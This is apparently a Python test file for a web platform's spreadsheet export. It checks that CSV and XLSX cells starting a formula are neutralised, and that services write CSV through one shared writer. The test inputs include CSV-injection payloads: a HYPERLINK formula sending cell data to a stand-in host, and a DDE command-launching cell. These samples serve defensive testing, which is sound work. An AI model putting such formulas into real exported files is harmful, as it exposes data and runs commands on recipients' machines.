"""CSV cells a spreadsheet would run as formulas are written as text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import re

import pytest

from kernel.platform.settings import REPO_ROOT
from kernel.web.spreadsheet import csv_text, neutralise


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://evil.example/?x="&A1,"Klicka")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_that_starts_a_formula_is_prefixed_with_a_quote(cell: str) -> None:
    assert neutralise(cell) == "'" + cell
    [[written]] = list(csv.reader(io.StringIO(csv_text([[cell]]), newline="")))
    assert written == "'" + cell


@pytest.mark.parametrize("cell", ["Fuzz AB", "556036-0793", "a=b", "", " =not first", 12, -3, 0.5, None])
def test_other_cells_and_numbers_are_left_alone(cell: object) -> None:
    assert neutralise(cell) == cell


def test_a_cell_with_the_separator_a_quote_or_a_line_break_stays_one_cell() -> None:
    rows = [['a;b "c"\nd', "=1"], ["x", "y"]]
    read = list(csv.reader(io.StringIO(csv_text(rows, delimiter=";"), newline=""), delimiter=";"))
    assert read == [['a;b "c"\nd', "'=1"], ["x", "y"]]


CSV_IMPORT = re.compile(r"^\s*(import csv|from csv import)", re.M)


def test_every_csv_the_services_write_goes_through_the_kernel() -> None:
    """The one writer: no service module imports the csv module itself."""
    writers = [
        path.relative_to(REPO_ROOT)
        for path in (REPO_ROOT / "services").rglob("*.py")
        if "tests" not in path.parts and CSV_IMPORT.search(path.read_text())
    ]
    assert writers == [], f"write CSV with kernel.web.spreadsheet.csv_text: {writers}"


def test_csv_for_a_swedish_spreadsheet_has_a_bom_semicolons_and_a_decimal_comma():
    from kernel.web.spreadsheet import excel_csv

    text = excel_csv([["Andel", "Median"], [0.5, 27.5], ["=SUM(A1)", 3]], "sv")
    assert text.startswith("\ufeff")
    assert text.lstrip("\ufeff").splitlines() == ["Andel;Median", "0,5;27,5", "'=SUM(A1);3"]
    assert excel_csv([[0.5, 1]], "en").lstrip("\ufeff").splitlines() == ["0.5,1"]


def test_an_xlsx_keeps_numbers_and_neutralises_formulas():
    import io

    from openpyxl import load_workbook

    from kernel.web.spreadsheet import xlsx_bytes

    sheet = load_workbook(io.BytesIO(xlsx_bytes([["A", "B"], [0.5, "=1+1"]], "Figures"))).active
    assert sheet.title == "Figures"
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [["A", "B"], [0.5, "'=1+1"]]
